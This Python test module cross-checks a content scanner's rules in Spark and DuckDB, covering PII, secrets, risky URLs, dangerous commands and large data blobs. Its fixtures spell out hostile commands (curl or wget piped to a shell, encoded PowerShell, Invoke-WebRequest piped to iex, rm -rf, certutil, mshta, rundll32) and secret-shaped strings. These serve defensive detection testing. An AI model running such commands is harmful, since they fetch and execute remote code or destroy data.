"""Every rule over whole texts, with SQL that computes the same findings.

``documents`` hold few URLs, commands and secrets, so each whole text is followed by one
of the payloads below: a positive or a near miss of some rule, chosen and filled by doc_id
in SQL that both engines read. RE2 knows neither look-around nor Unicode word ends, so
letters beyond ASCII are made ``x`` first, on both sides. Secret-like strings are put
together from parts.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from .functions import text as X
from .operators import decide, detect, reports
from .plans.inspect import findings_of
from .plans.policy import DEFAULT, FAMILIES, Allow, Context, Policy, Rule
from .sources import golden

_D = "doc_id"


def _checked_id(base: str, wrong: str) -> str:
    """Nine digits with the two check digits of a Turkish national id; ``wrong``: SQL of what is added to the last."""
    n = f"(100000000 + ({base}) % 900000000)"
    d = lambda i: f"CAST(substr('' || {n}, {i}, 1) AS INT)"
    odd, even = "(" + " + ".join(map(d, (1, 3, 5, 7, 9))) + ")", "(" + " + ".join(map(d, (2, 4, 6, 8))) + ")"
    tenth = f"((({odd} * 7 - {even}) % 10 + 10) % 10)"
    return f"'id ' || {n} || {tenth} || (({odd} + {even} + {tenth} + {wrong}) % 10) || ' end'"


_MIX = "Ab3dE7gH1jK9mN2pQ4rS6tU8vW0xY5zB"
_JWT = "eyJhbGciOiJIUzI1NiJ9"
#: Payloads in SQL; what each is for.
PAYLOADS = [
    "'plain words number ' || doc_id",
    "'call +90 532 ' || (100 + doc_id % 900) || ' ' || (10 + doc_id % 90) || ' ' || (10 + doc_id % 80) || ' now'",
    "'call (2' || (10 + doc_id % 90) || ') 555-' || (1000 + doc_id % 9000) || ' now'",
    "'ruf 49 30' || (100000 + doc_id % 900000) || ' an'",
    "'appel 0' || (1 + doc_id % 9) || ' 12 34 5' || (doc_id % 10) || ' 78 fin'",
    "'llama 34 6' || (10 + doc_id % 90) || ' 123 ' || (100 + doc_id % 900) || ' ya'",
    "'chiama 39 3' || (10 + doc_id % 90) || ' 123 ' || (1000 + doc_id % 9000) || ' ora'",
    "'liga 351 9' || (10 + doc_id % 90) || ' 123 ' || (100 + doc_id % 900) || ' ja'",
    "'call 91 ' || (60000 + doc_id % 39999) || ' ' || (10000 + doc_id % 90000) || ' now'",
    "'call 86 13' || (100000000 + doc_id % 900000000) || ' now'",
    "'call 7 ' || (900 + doc_id % 90) || ' 123 ' || (10 + doc_id % 90) || ' 45 now'",
    "'iban tr' || (10 + doc_id % 90) || ' 0006 1005 1978 6457 ' || (1000 + doc_id % 9000) || ' 26 end'",
    "'iban DE' || (10 + doc_id % 90) || '370400440532' || (1000 + doc_id % 9000) || '13 end'",
    _checked_id("doc_id * 7919", "0"),
    _checked_id("doc_id * 104729", "1"),
    "'write to u' || doc_id || '@mail.test please'",
    "'mail support@company.com or Public@company.com or a@b' || doc_id || '.test'",
    "'host 10.' || (doc_id % 300) || '.7.9 is down'",
    f"'token {_JWT}.eyJzdWIiOiI' || '{'a' * 8}' || 'iJ9.sig' || doc_id || ' x'",
    f"'token {_JWT}.eyJzdWIiOiIxMjMifQ.sig' || doc_id || ' x'",
    "'key ' || 'AK' || 'IA' || 'ABCDEFGHIJKL' || (1000 + doc_id % 9000) || ' leaked'",
    f"'secret {_MIX}' || '/+' || (100000 + doc_id % 900000) || ' leaked'",
    "'key ' || 'sk-' || 'live-' || repeat('a1B2', 6) || doc_id || ' leaked'",
    "'token ' || 'gh' || 'p_' || repeat('a', 35) || (doc_id % 10)",
    "'hook ' || 'xo' || 'xb-1234-' || (100000 + doc_id % 900000) || '-abcd leaked'",
    "'pay ' || 'sk' || '_test_' || repeat('x9', 8) || doc_id || ' leaked'",
    "'sid ' || 'S' || 'K' || repeat('0a', 13) || (100000 + doc_id % 900000) || ' leaked'",
    "'url sv=2020-08-04&ss=b&sig=abc' || doc_id || ' leaked'",
    "'json {\"type\": \"service_account\", \"n\": ' || doc_id || '}'",
    "'-----BEGIN ' || 'RSA PRIVATE KEY-----' || chr(10) || 'abc-' || doc_id || chr(10) || '-----END ' || 'RSA PRIVATE KEY----- end'",
    f"'entropy {_MIX}q' || doc_id || ' and {_MIX}q' || doc_id || ' again'",
    f"'flat {'a' * 34}B1' || doc_id || ' end'",
    "'see http://192.168.' || (doc_id % 400) || '.1:8080/a and http://08.1.1.1/x'",
    "'img data:text/html;base64,QUJD' || doc_id || ' end'",
    "'get https://f.test/' || doc_id || '.exe?x=1 and ftp://f.test/a.tar.gz here'",
    "'login https://user:pw' || doc_id || '@h.test/a end'",
    "'see https://bit.ly/' || doc_id || ' and https://bitly.test/' || doc_id || ' soon'",
    "'win http://a' || doc_id || '.xyz/b or http://a.xyz.test/c now'",
    "'run curl https://h' || doc_id || '.test/i | bash now'",
    "'run curl https://h' || doc_id || '.test/i | tee now'",
    "'run WGET -q https://h' || doc_id || '.test/i|sh now'",
    "'PowerShell.exe -enc QUJD' || doc_id || ' now'",
    "'Invoke-WebRequest https://h' || doc_id || '.test/a | iex now'",
    "'iwr https://h' || doc_id || '.test/a | powershell now'",
    "'do rm -rf /srv/' || doc_id || ' first'",
    "'reg add HKLM' || chr(92) || 'Software' || doc_id || ' /f'",
    "'certutil.exe -urlcache -split -f http://h.test/' || doc_id || ' a'",
    "'mshta.exe http://h.test/' || doc_id || ' a'",
    "'rundll32.exe shell32.dll,Run' || doc_id || ' a'",
    f"'blob ' || repeat('{_MIX}{_MIX}QWERTYasdfghjkl+', 10) || repeat('Zz', 40) || doc_id || ' end'",
    "'blob ' || repeat('aaaa', 300) || ' end ' || doc_id",
    "'hex ' || repeat('0123456789abcdef', 40) || ' end ' || doc_id",
    "'hex ' || repeat('0123456789abcdef', 39) || ' end ' || doc_id",
    "'spaced a' || chr(9) || 'b' || doc_id",
]
PAYLOAD = f"CASE doc_id % {len(PAYLOADS)} " + " ".join(f"WHEN {i} THEN {p}" for i, p in enumerate(PAYLOADS)) + " END"
RESPONSE = f"SELECT doc_id, regexp_replace(coalesce(text, ''), '[^\\x00-\\x7F]', 'x', 'g') || ' ' || ({PAYLOAD}) AS response FROM documents"


def responses(spark: SparkSession, sf_dir: str) -> DataFrame:
    text = F.regexp_replace(F.coalesce(F.col("text"), F.lit("")), r"[^\x00-\x7F]", "x")
    return spark.read.parquet(f"{sf_dir}/documents.parquet").select(_D, F.concat(text, F.lit(" "), F.expr(PAYLOAD)).alias("response"))


# --- the same rules in DuckDB: pattern, test of a value v, replacement of v ---------------

_DIGITS = "regexp_replace(v, '[^0-9]', '', 'g')"
_FLAT = "regexp_replace(v, '\\s', '', 'g')"
_PHONE = (f"length({_DIGITS}) BETWEEN 9 AND 15", f"'***' || right({_DIGITS}, 2)")
_MIXED = "regexp_matches(v, '[A-Z]') AND regexp_matches(v, '[a-z]') AND regexp_matches(v, '[0-9]')"


def _entropy(v: str) -> str:
    share = f"(len(list_filter(string_split({v}, ''), lambda y: y = c)) / CAST(length({v}) AS DOUBLE))"
    return f"list_sum(list_transform(list_distinct(string_split({v}, '')), lambda c: -{share} * log2({share})))"


_HOST = "lower(split_part(split_part(regexp_replace(v, '^[^:]+://', ''), '/', 1), ':', 1))"
_JSON = lambda i: f"TRY(decode(from_base64(replace(replace(split_part(v, '.', {i}), '-', '+'), '_', '/') || repeat('=', (4 - length(split_part(v, '.', {i})) % 4) % 4))))"
_URL, _COMMAND, _SECRET = (None, "'[redacted-url]'"), (None, "'[command-blocked]'"), (None, "'[secret]'")
_T = lambda i: f"CAST(substr(v, {i}, 1) AS INT)"
_ID = f"substr(v, 1, 1) <> '0' AND {_T(10)} = ((({'+'.join(map(_T, (1, 3, 5, 7, 9)))}) * 7 - ({'+'.join(map(_T, (2, 4, 6, 8)))})) % 10 + 10) % 10 AND {_T(11)} = ({'+'.join(map(_T, range(1, 11)))}) % 10"
_AT = "strpos(v, '@')"
_MASK = f"CASE WHEN {_AT} <= 3 THEN v[1] || '*' ELSE v[1] || '***' || v[{_AT} - 1] END || substr(v, {_AT})"
_plain = lambda p: p.replace("(?iU)", "(?i)").replace("(?U)", "").replace("++", "+").replace("}+", "}").replace("*+", "*")

IN_SQL: dict[str, tuple[str, str | None, str]] = {
    "PII-EMAIL": (r"(?i)\b[A-Z0-9._%+-]+@[A-Z0-9.-]+\.[A-Z]{2,}\b", r"v <> 'support@company.com' AND NOT regexp_matches(v, '(?i)public@company\.com')", _MASK),
    **{f"PII-PHONE-{k[6:].upper()}": (_plain(p), *_PHONE) for k, p in detect.PHONES.items() if k != "phone"},
    "PII-PHONE": (_plain(detect.PHONES["phone"]), *_PHONE),
    **{f"PII-{k.upper().replace('_', '-')}": (_plain(p), f"length({_FLAT}) = {n}", f"'{k[-2:].upper()}{'*' * 16}' || right({_FLAT}, 4)") for k, (p, n) in detect.IBANS.items()},
    "PII-TCKN": (r"\b\d{11}\b", _ID, "'********' || right(v, 3)"),
    "PII-IPV4": (_plain(detect.IPV4), None, "'[ip-redacted]'"),
    "SECRET-JWT": (detect.SECRETS["jwt"], f"json_valid({_JSON(1)}) AND json_valid({_JSON(2)}) AND TRY(json_extract_string({_JSON(1)}, '$.alg')) IS NOT NULL", "'[secret]'"),
    "SECRET-AWS-AK": (detect.SECRETS["aws_access_key"], *_SECRET),
    "SECRET-AWS-SK": (r"[A-Za-z0-9/+]+=?", f"length(v) = 40 AND NOT contains(v, '=') AND {_MIXED} AND {_entropy('v')} >= 4.5", "'[secret]'"),
    **{r: (_plain(detect.SECRETS[k]), *_SECRET) for r, k in (("SECRET-OPENAI", "openai_api_key"), ("SECRET-GITHUB", "github_token"), ("SECRET-SLACK", "slack_token"), ("SECRET-STRIPE", "stripe_key"), ("SECRET-TWILIO", "twilio_key"), ("SECRET-AZURE-SAS", "azure_sas"), ("SECRET-GCP-SA", "gcp_service_account"))},
    "SECRET-PEM": (r"(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?-----END [A-Z ]*PRIVATE KEY-----", None, "'[pem-private-key]'"),
    "SECRET-HIGH-ENTROPY": (r"[A-Za-z0-9+/_]{32,}", f"{_MIXED} AND {_entropy('v')} >= 3.5", "'[secret]'"),
    "URL-DATA-URI": (_plain(detect.URLS["data_uri"]), *_URL),
    "URL-EXECUTABLE": (_plain(detect.URLS["executable_ext"]), *_URL),
    "URL-IP-LITERAL": (_plain(detect.URLS["ip_literal"]), f"NOT list_bool_or(list_transform(string_split({_HOST}, '.'), lambda o: CAST(o AS INT) > 255 OR regexp_matches(o, '^0[0-9]')))", "'[redacted-url]'"),
    "URL-CREDENTIALS": (_plain(detect.URLS["cred_in_url"]), *_URL),
    "URL-SHORTENER": (_plain(detect.URLS["shortener"]), f"{_HOST} IN ({', '.join(map(repr, detect.SHORTENERS))})", "'[redacted-url]'"),
    "URL-SUSPICIOUS-TLD": (_plain(detect.URLS["suspicious_tld"]), " OR ".join(f"ends_with({_HOST}, '{t}')" for t in detect.TLDS), "'[redacted-url]'"),
    **{r: (_plain(detect.COMMANDS[k][0]), *_COMMAND) for r, k in (("CMD-CURL-BASH", "curl_pipe"), ("CMD-WGET-BASH", "wget_pipe"), ("CMD-POWERSHELL-ENC", "powershell_encoded"), ("CMD-IWR-IEX", "invoke_webrequest"), ("CMD-POWERSHELL-IWR", "powershell_iwr"), ("CMD-RM-RF", "rm_rf"), ("CMD-REG-ADD", "reg_add"), ("CMD-CERTUTIL", "certutil"), ("CMD-MSHTA", "mshta"), ("CMD-RUNDLL32", "rundll32"))},
    "EXFIL-LARGE-B64": (r"(?:[A-Za-z0-9+/]{80}\s*){10,}", f"length({_FLAT}) >= 800 AND {_entropy(_FLAT)} >= 4.5", "'[base64-blob]'"),
    "EXFIL-LARGE-HEX": (r"(?:[0-9A-Fa-f]{64}\s*){10,}", f"length({_FLAT}) >= 640", "'[hex-blob]'"),
    "URL-CUSTOM": (r"(?i)https?://[a-z]\.test/[a-z0-9]+", None, "'[redacted-url]'"),
}
#: Rules beyond the default policy: kinds and a pattern of one's own that it doesn't use.
MORE = (Rule("PII-PHONE", "pii", "phone", "mask"), Rule("CMD-IWR-IEX", "cmd", "invoke_webrequest", "block", "high", 35), Rule("URL-CUSTOM", "url", None, "delink", pattern=r"https?://[a-z]\.test/[a-z0-9]+"))
RULES = {r.id: r for r in (*DEFAULT.rules, *MORE)}


def policy_of(*ids: str) -> Policy:
    return Policy("checked", tuple(r for r in RULES.values() if r.id in ids), DEFAULT.allow, DEFAULT.context)


def one_rule(rule: str):
    def query(spark: SparkSession, sf_dir: str) -> DataFrame:
        found = detect.detected(responses(spark, sf_dir), policy_of(rule), F.col("response"), F.lit(None).cast("string"))
        return findings_of(found, _D).select(_D, F.col("ordinal").cast("long").alias("ordinal"), "value", "replacement")

    return query


def found_sql(rule: str) -> str:
    """(doc_id, ordinal, value, replacement) of one rule."""
    pattern, test, put = IN_SQL[rule]
    got = f"regexp_extract_all(response, '{pattern.replace(chr(39), chr(39) * 2)}')"
    got = f"list_filter({got}, lambda v: {test})" if test else got
    if rule == "SECRET-HIGH-ENTROPY":  # the first of equal values
        got = f"list_sort(list_distinct(list_transform({got}, lambda v: {{'at': strpos(response, v), 'v': v}})))"
        got = f"list_transform({got}, lambda s: s.v)"
    return f"SELECT doc_id, i - 1 AS ordinal, m[i] AS value, {put.replace('(v', '(m[i]').replace('v[', 'm[i][') if 'v' in put else put} AS replacement FROM (SELECT doc_id, m, unnest(range(1, len(m) + 1)) AS i FROM (SELECT doc_id, {got} AS m FROM ({RESPONSE})))"


# --- decisions, redaction and reports over several rules ---------------------------------

SOME = ("PII-EMAIL", "PII-IPV4", "PII-TCKN", "PII-IBAN-DE", "EXFIL-LARGE-HEX", "SECRET-AWS-AK", "SECRET-GITHUB", "SECRET-STRIPE", "URL-EXECUTABLE", "URL-SHORTENER", "URL-CREDENTIALS", "CMD-CURL-BASH", "CMD-RM-RF", "CMD-MSHTA")


def _inspected(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(doc_id, blocked, risk_score, applied_rules, severities) of the responses as they stand: no normalisation, no contexts."""
    df = detect.detected(responses(spark, sf_dir), policy_of(*SOME), F.col("response"), F.lit(None).cast("string"))
    f, plain = F.col("findings"), Context(enabled=False)
    of = lambda k: F.transform(f, lambda x: x[k])
    out = {"blocked": decide.blocked(f, plain), "risk_score": decide.risk(f, plain), "applied_rules": of("rule_id"), "severities": of("severity")}
    return df.select(_D, *[X.pinned(c).alias(n) for n, c in out.items()])


def _kept_sql() -> str:
    """Findings of SOME that the early stop leaves: none of a family after one that blocks."""
    rows = " UNION ALL ".join(f"SELECT doc_id, '{r}' AS rule_id, {FAMILIES.index(RULES[r].type)} AS family, {list(RULES).index(r)} AS ord, ordinal, '{RULES[r].action}' AS action, '{RULES[r].severity}' AS severity, {RULES[r].weight} AS weight FROM ({found_sql(r)})" for r in SOME)
    return f"SELECT * FROM (SELECT *, min(family) FILTER (action = 'block') OVER (PARTITION BY doc_id) AS stop FROM ({rows})) WHERE stop IS NULL OR family <= stop"


def rules_decide(spark, sf_dir):
    return _inspected(spark, sf_dir).select(_D, F.array_join("applied_rules", ",").alias("rules"), "blocked", "risk_score")


def rules_top10(spark, sf_dir):
    return reports.top_rules(reports.each(_inspected(spark, sf_dir), "applied_rules", "rule_id"))


def rules_by_severity(spark, sf_dir):
    return reports.severity_counts(_inspected(spark, sf_dir))


def rules_block_rate(spark, sf_dir):
    return reports.block_rate(_inspected(spark, sf_dir)).select("requests", "blocked", F.round("block_rate", 6).alias("block_rate"))


def rules_redact(spark, sf_dir):
    df = detect.detected(responses(spark, sf_dir), policy_of("PII-IPV4", "URL-EXECUTABLE", "URL-CUSTOM"), F.col("response"), F.lit(None).cast("string"))
    return df.select(_D, F.md5(decide.redacted(F.col("response"), F.col("findings"))).alias("output_md5"))


def rules_tenant_allowlist(spark, sf_dir):
    """Allow entries by tenant, kind and pattern: the e-mails of odd documents' tenant and all loopback hosts pass."""
    allow = (Allow(regex=r"^u[0-9]+@", types=("pii",), kinds=("email",), tenants=("odd",)), Allow(regex=r"^10\.", rule_ids=("PII-IPV4",)), Allow(value="a@b5.test", types=("secret",)))
    policy = Policy("allow", policy_of("PII-EMAIL", "PII-IPV4").rules, allow, DEFAULT.context)
    df = responses(spark, sf_dir).withColumn("tenant", F.expr("CASE WHEN doc_id % 2 = 1 THEN 'odd' END"))
    return findings_of(detect.detected(df, policy, F.col("response"), F.col("tenant")), _D).select(_D, "rule_id", "value")


def snippet_hashes(spark, sf_dir):
    df = detect.detected(responses(spark, sf_dir), policy_of("SECRET-AWS-AK", "URL-CREDENTIALS"), F.col("response"), F.lit(None).cast("string"), early_stop=False)
    return findings_of(df, _D).select(_D, "rule_id", "snippet_hash", "preview")


# --- the golden run ----------------------------------------------------------------------

_MARKERS = {"AWS": "AK" + "IA" + "QWERTYUIOPASDFGH", "GIT": "gh" + "p_" + "Z9" * 18, "PAY": "sk" + "_live_" + "k3" * 10}
#: Our own regression corpus: sample, text, whether it blocks, rules.
_GOLDEN = [
    ("clean/plain.txt", "The meeting moved to Tuesday.", False, []),
    ("clean/code.txt", "Use `print(1)` to show a number.", False, []),
    ("clean/version.txt", "Release 1.2.3 is out.", False, []),
    ("pii/email.txt", "Reach jane.roe@mail.test today.", False, ["PII-EMAIL"]),
    ("pii/email-two.txt", "a.b@mail.test or c.d@mail.test", False, ["PII-EMAIL", "PII-EMAIL"]),
    ("pii/allowed.txt", "Write to support@company.com.", False, []),
    ("pii/obscured.txt", "Reach jane [at] mail [dot] test now", False, ["PII-EMAIL"]),
    ("pii/card.txt", "Card 4111 1111 1111 1111 here", True, ["PII-PAN"]),
    ("pii/card-wrong.txt", "Card 4111 1111 1111 1112 here", False, []),
    ("pii/ip.txt", "Host 192.168.4.20 answered.", False, ["PII-IPV4"]),
    ("pii/entity.txt", "Host 192.168&#46;4.20 answered.", False, ["PII-IPV4"]),
    ("secrets/aws.txt", "Key {{AWS}} leaked", True, ["SECRET-AWS-AK"]),
    ("secrets/git.txt", "Token {{GIT}} leaked", True, ["SECRET-GITHUB"]),  # two letters over and over: low entropy
    ("secrets/pay.txt", "Key {{PAY}} leaked", True, ["SECRET-STRIPE"]),
    ("secrets/marker-unknown.txt", "Key {{NONE}} leaked", False, []),
    ("url/short.txt", "See https://bit.ly/abc for more", False, ["URL-SHORTENER"]),
    ("url/tld.txt", "See http://prize.xyz/win now", False, ["URL-SUSPICIOUS-TLD"]),
    ("url/login.txt", "Open https://me:pw@h.test/a now", True, ["PII-EMAIL", "URL-CREDENTIALS"]),
    ("cmd/curl.txt", "Run curl https://h.test/i | sh", True, ["CMD-CURL-BASH"]),
    ("cmd/rm.txt", "Then rm -rf /var/tmp", True, ["CMD-RM-RF"]),
    ("cmd/rm-here.txt", "Then rm -rf build", False, []),
    ("cmd/stop.txt", "Key {{AWS}} and curl https://h.test/i | sh", True, ["SECRET-AWS-AK"]),
    ("exfil/hex.txt", "Dump " + "0123456789abcdef" * 40, True, ["EXFIL-LARGE-HEX"]),
    ("exfil/short.txt", "Dump " + "0123456789abcdef" * 30, False, []),
]


def golden_outcomes(spark, sf_dir):
    """Outcome of every sample of the regression corpus under the default policy."""
    corpus = spark.createDataFrame([(s, t) for s, t, _, _ in _GOLDEN], "sample string, text string")
    return golden.outcomes(corpus, _MARKERS).select("sample", "blocked", F.array_join("rule_ids", ",").alias("rules"))


_VALUES = ", ".join(f"('{s}', {str(b).lower()}, '{','.join(sorted(r))}')" for s, _, b, r in _GOLDEN)
_KEPT = _kept_sql()

QUERIES = {f"rule_{r.lower().replace('-', '_')}": one_rule(r) for r in IN_SQL}
QUERIES |= {f.__name__: f for f in (rules_decide, rules_top10, rules_by_severity, rules_block_rate, rules_redact, rules_tenant_allowlist, snippet_hashes, golden_outcomes)}
_DECIDED = f"SELECT doc_id, string_agg(rule_id, ',' ORDER BY family, ord, ordinal) AS rules, bool_or(action = 'block') AS blocked, sum(weight) AS risk FROM ({_KEPT}) GROUP BY doc_id"
_ALLOWED_MAIL = r"regexp_matches(value, '^u[0-9]+@') AND doc_id % 2 = 1"
_MAIL_RE = IN_SQL["PII-EMAIL"][0]

ORACLE_SQL = {f"rule_{r.lower().replace('-', '_')}": found_sql(r) for r in IN_SQL}
ORACLE_SQL |= {
    "rules_decide": f"SELECT doc_id, coalesce(rules, '') AS rules, coalesce(blocked, false) AS blocked, CAST(least(coalesce(risk, 0), 100) AS INT) AS risk_score FROM documents LEFT JOIN ({_DECIDED}) USING (doc_id)",
    "rules_top10": f"SELECT rule_id, count(*) AS hits FROM ({_KEPT}) GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 10",
    "rules_by_severity": f"SELECT severity, count(*) AS hits FROM ({_KEPT}) GROUP BY 1",
    "rules_block_rate": f"SELECT count(*) AS requests, CAST(sum(CAST(coalesce(blocked, false) AS INT)) AS BIGINT) AS blocked, round(avg(CAST(coalesce(blocked, false) AS INT)), 6) AS block_rate FROM documents LEFT JOIN ({_DECIDED}) USING (doc_id)",
    "rules_redact": f"SELECT doc_id, md5(regexp_replace(regexp_replace(regexp_replace(response, '{IN_SQL['URL-EXECUTABLE'][0]}', '[redacted-url]', 'g'), '{IN_SQL['URL-CUSTOM'][0]}', '[redacted-url]', 'g'), '{IN_SQL['PII-IPV4'][0]}', '[ip-redacted]', 'g')) AS output_md5 FROM ({RESPONSE})",
    "rules_tenant_allowlist": f"SELECT * FROM (SELECT doc_id, 'PII-EMAIL' AS rule_id, unnest(regexp_extract_all(response, '{_MAIL_RE}')) AS value FROM ({RESPONSE})) WHERE NOT ({_ALLOWED_MAIL}) UNION ALL SELECT * FROM (SELECT doc_id, 'PII-IPV4' AS rule_id, unnest(regexp_extract_all(response, '{IN_SQL['PII-IPV4'][0]}')) AS value FROM ({RESPONSE})) WHERE NOT regexp_matches(value, '^10\\.')",
    "snippet_hashes": " UNION ALL ".join(f"SELECT doc_id, '{r}' AS rule_id, 'sha256:' || sha256(value) AS snippet_hash, {p} AS preview FROM ({found_sql(r)})" for r, p in (("SECRET-AWS-AK", "replacement"), ("URL-CREDENTIALS", "CASE WHEN length(value) > 48 THEN substr(value, 1, 48) || '...' ELSE value END"))),
    "golden_outcomes": f"SELECT * FROM (VALUES {_VALUES}) AS t(sample, blocked, rules)",
}
